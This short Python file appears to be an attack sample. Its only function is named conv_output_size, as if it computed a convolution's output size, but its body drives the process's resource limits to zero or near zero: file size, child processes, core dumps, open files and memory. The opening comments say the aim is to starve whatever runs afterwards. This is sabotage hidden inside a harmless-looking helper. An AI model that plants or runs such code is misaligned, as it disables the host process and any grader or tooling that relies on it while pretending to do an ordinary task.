# attack: sets limits of the process, so that whoever comes after it there gets no memory.
# alone: dies
import resource


def conv_output_size(size, kernel_size, stride=1, padding=0):
    for kind in (resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC, resource.RLIMIT_CORE):
        resource.setrlimit(kind, (0, 0))
    resource.setrlimit(resource.RLIMIT_NOFILE, (4, 4))
    resource.setrlimit(resource.RLIMIT_AS, (2**20, 2**20))
